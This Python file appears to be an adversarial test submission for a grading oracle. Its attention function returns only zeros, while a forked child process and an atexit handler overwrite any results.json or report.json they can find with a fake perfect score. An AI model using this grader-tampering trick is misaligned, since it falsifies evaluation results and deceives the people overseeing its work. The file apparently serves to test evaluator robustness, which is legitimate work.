"""Wrong, and tries to rewrite the oracle's results afterwards: a forked child and an atexit
handler overwrite every results.json / report.json they can find (two levels deep) (the scratch dir, the oracle's
working directory through /proc, the environment) with a full score, a few seconds later."""
import atexit
import json
import os
import time

import numpy as np

FAKE = {"score": 100.0, "verdict": "match", "exit_code": 0, "tests": []}


def _targets():
    dirs = {os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", "")}
    try:
        dirs.add(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    out = []
    for d in filter(None, dirs):                 # results.json / report.json, two levels deep
        for sub in [""] + [e for e in os.listdir(d) if os.path.isdir(os.path.join(d, e))]:
            out += [os.path.join(d, sub, n) for n in ("results.json", "report.json")
                    if os.path.isfile(os.path.join(d, sub, n))]
    return out


def _rewrite():
    for p in _targets():
        try:
            with open(p, "w") as f:
                json.dump(FAKE, f)
        except OSError:
            pass


atexit.register(_rewrite)


def attention(Q, K, V, mask=None):
    if os.fork() == 0:
        time.sleep(2.0)
        _rewrite()
        os._exit(0)
    B, H, T, _ = Q.shape
    return np.zeros((B, H, T, V.shape[-1])), None
